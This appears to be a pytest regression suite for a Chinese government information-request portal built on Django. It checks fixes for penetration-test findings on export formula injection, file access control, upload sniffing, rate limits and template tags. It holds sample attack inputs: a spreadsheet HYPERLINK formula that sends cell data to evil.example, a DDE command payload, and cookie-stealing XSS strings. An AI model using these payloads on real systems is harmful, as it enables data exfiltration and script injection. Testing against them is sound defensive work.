"""Penetration-test findings about information requests (issue 11): each test failed before its fix."""

import io

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from portal.models import AuditEntry, AuditEvent
from requests_app import notices, services
from requests_app.models import NoticeTemplate, Request, RequestFile, Status

from .test_public import lookup

EVIL = '=HYPERLINK("http://evil.example/?d="&A2&C2,"点击查看")'


def _export_values(client):
    response = client.get(reverse("requests_staff:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]


# --- finding 2 and 10: the register export ---------------------------------------------------


def test_register_export_keeps_a_typed_formula_as_text(client, online, county):
    online(applicant_name=EVIL, description="+cmd|' /C calc'!A0", address="@SUM(1+1)")
    client.force_login(county.officer)
    values = _export_values(client)
    assert "'" + EVIL in values
    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)


def test_control_characters_in_an_application_do_not_break_the_export(client, online, county):
    online(description="低保\x01名单\x1b[31m", address="测试路\x0b1号")
    client.force_login(county.officer)
    values = _export_values(client)  # openpyxl raised IllegalCharacterError: a 500 for everyone
    assert "低保名单[31m" in values


# --- finding 4: applicants' files ---------------------------------------------------------


@pytest.fixture
def request_with_file(intake, county):
    req, _code = intake()
    upload = SimpleUploadedFile("身份证复印件.pdf", b"%PDF-1.4 id copy", content_type="application/pdf")
    services.attach_file(county.officer, req, upload, kind="applicant")
    return req, RequestFile.objects.get(request=req)


def test_a_reviewer_and_a_county_officer_cannot_download_an_applicants_file(client, request_with_file, county):
    req, item = request_with_file
    url = reverse("requests_staff:file", args=[item.pk])
    for user in (county.reviewer, county.county_officer):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 403, user
        assert b"%PDF-1.4 id copy" not in response.content
        page = client.get(reverse("requests_staff:detail", args=[req.pk])).content.decode()
        assert url not in page and "身份证复印件.pdf" in page and "只有受理机关" in page


def test_the_handling_officers_download_is_audited_with_the_address(client, request_with_file, county):
    req, item = request_with_file
    client.force_login(county.officer)
    before = AuditEntry.objects.count()
    response = client.get(reverse("requests_staff:file", args=[item.pk]), REMOTE_ADDR="198.51.100.7")
    assert response.status_code == 200 and b"".join(response.streaming_content) == b"%PDF-1.4 id copy"
    assert response["Cache-Control"].startswith("no-store")
    assert AuditEntry.objects.count() == before + 1
    entry = AuditEntry.objects.order_by("-pk").first()
    assert entry.actor == county.officer and entry.ip == "198.51.100.7"
    assert entry.event == AuditEvent.DOWNLOAD_FILE and entry.verb == "下载文件" and entry.outcome == "success"


# --- finding 11: uploads sniffed by content -----------------------------------------------


@pytest.mark.parametrize(
    "name, content",
    [
        ("材料.pdf", b"<html><script>alert(document.cookie)</script></html>"),
        ("照片.jpg", b"%PDF-1.4 a pdf named jpg"),
        ("扫描.png", b"<svg onload=alert(1)></svg>"),
    ],
)
def test_a_supplement_whose_bytes_do_not_match_its_name_is_refused(client, intake, county, name, content):
    req, code = intake()
    services.request_supplement(county.officer, req, items="请补正")
    lookup(client, req.tracking_number, code)
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    response = client.post(
        reverse("requests_app:supplement", args=[req.tracking_number]), {"text": "补正说明", "files": [upload]}
    )
    assert response.status_code == 400 and "内容与其扩展名不符" in response.content.decode()
    assert Request.objects.get(pk=req.pk).status == Status.SUPPLEMENT_REQUESTED
    assert not RequestFile.objects.filter(request=req).exists()


@pytest.mark.parametrize(
    "content, ok",
    [
        ("申请说明：请公开2026年低保名单。".encode("utf-8"), True),
        ("申请说明".encode("gb18030"), True),
        (b"<svg onload=alert(1)></svg>", False),
        (b"<!DOCTYPE html><p>x</p>", False),
        (b"a\x00b", False),
    ],
)
def test_a_text_file_must_be_text_without_markup(content, ok):
    from django.core.exceptions import ValidationError

    from requests_app.forms import MultipleFileField

    upload = SimpleUploadedFile("说明.txt", content, content_type="text/plain")
    if ok:
        assert MultipleFileField().clean([upload]) == [upload]
    else:
        with pytest.raises(ValidationError):
            MultipleFileField().clean([upload])


def test_a_staff_attachment_is_sniffed_too(client, in_handling, county):
    req = in_handling()
    client.force_login(county.officer)
    upload = SimpleUploadedFile("意见.pdf", b"<html>not a pdf</html>", content_type="application/pdf")
    client.post(reverse("requests_staff:attach", args=[req.pk]), {"file": upload, "kind": "internal"})
    assert not RequestFile.objects.filter(request=req).exists()


# --- finding 12: rate limits on supplement and withdraw ---------------------------------------


@override_settings(REQUESTS_RATE_LIMITS={"supplement": 2, "withdraw": 2})
def test_supplement_and_withdraw_are_rate_limited_per_address(client, intake, county):
    req, code = intake()
    lookup(client, req.tracking_number, code)
    for name, data in (("supplement", {"text": ""}), ("withdraw", {})):
        url = reverse(f"requests_app:{name}", args=[req.tracking_number])
        statuses = [client.post(url, data).status_code for _ in range(3)]
        assert statuses[:2] != [429, 429] and statuses[2] == 429, (name, statuses)
        response = client.post(url, data)
        assert int(response["Retry-After"]) > 0 and "操作过于频繁" in response.content.decode()
    assert Request.objects.get(pk=req.pk).status == Status.REGISTERED


# --- finding 10: NUL, huge numbers --------------------------------------------------------


def test_a_nul_in_the_staff_search_is_a_400_not_a_500(client, in_handling, county):
    in_handling()
    client.force_login(county.officer)
    response = client.get(reverse("requests_staff:workbench"), {"q": "张\x00"})
    assert response.status_code == 400 and "请求有误" in response.content.decode()


@pytest.mark.parametrize("query", ["year=²", "year=0", "year=" + "9" * 30, "year=１２"])
def test_malformed_years_in_the_register_export_are_ignored(client, in_handling, county, query):
    in_handling()
    client.force_login(county.officer)
    assert client.get(reverse("requests_staff:export") + "?" + query).status_code == 200


def test_a_fee_of_ten_to_the_thirty_pages_is_refused_with_a_message(in_handling, county):
    from django.core.exceptions import ValidationError

    req = in_handling()
    with pytest.raises(ValidationError) as caught:
        services.assess_fee(req, "per_volume", 10**30)
    assert "页数不能超过" in str(caught.value)


# --- finding 14: notice templates and the console mail ----------------------------------------


@pytest.mark.parametrize(
    "tag",
    [
        "{% debug %}",
        "{% load humanize %}",
        '{% include "base.html" %}',
        '{% extends "base.html" %}',
        "{% csrf_token %}",
    ],
)
def test_notice_templates_refuse_tags_outside_the_allow_list(tag):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as caught:
        notices.validate_template_body("{{ applicant_name }}：" + tag)
    assert "不允许使用标签" in str(caught.value)
    notices.validate_template_body("{% if applicant_name %}{{ applicant_name }}{% endif %}{% for x in y %}{% endfor %}")


def test_a_stored_template_with_debug_renders_the_default_instead(county):
    NoticeTemplate.objects.filter(organization=None, kind="reply").update(body="{% debug %}{{ id_number }}")
    title, text = notices.render("reply", county.civil, {"applicant_name": "张测试", "id_number": "990101X"})
    assert "990101X" not in text and "张测试" in text


def test_the_admin_refuses_debug_in_a_notice_template(client, county, admin_user):
    template = NoticeTemplate.objects.get(organization=None, kind="reply")
    client.force_login(admin_user)
    url = reverse("admin:requests_app_noticetemplate_change", args=[template.pk])
    response = client.post(
        url, {"kind": "reply", "organization": "", "title": template.title, "body": template.body + "{% debug %}"}
    )
    assert response.status_code == 200 and "不允许使用标签" in response.content.decode()
    template.refresh_from_db()
    assert "{% debug %}" not in template.body


def test_the_console_mail_backend_masks_the_query_code_and_tokens(county):
    from django.core.mail import get_connection

    from requests_app import access

    code = access.format_query_code(access.new_query_code())
    stream = io.StringIO()
    connection = get_connection("portal.mail.MaskingConsoleBackend", stream=stream)
    message = mail.EmailMessage(
        f"查询码 {code}", f"查询码：{code}\n退订：http://x/zwgk/xxgk/unsubscribe/tok3n42/", None, ["a@example.invalid"]
    )
    connection.send_messages([message])
    printed = stream.getvalue()
    assert code not in printed and "tok3n42" not in printed and "****-****-****-****" in printed
    assert code in message.body  # what a real backend sends is untouched


def test_debug_settings_use_the_masking_console_backend(tmp_path):
    from tests.portal.test_hardening import read_settings_value

    assert read_settings_value(tmp_path, "EMAIL_BACKEND", DEBUG="1") == "portal.mail.MaskingConsoleBackend"
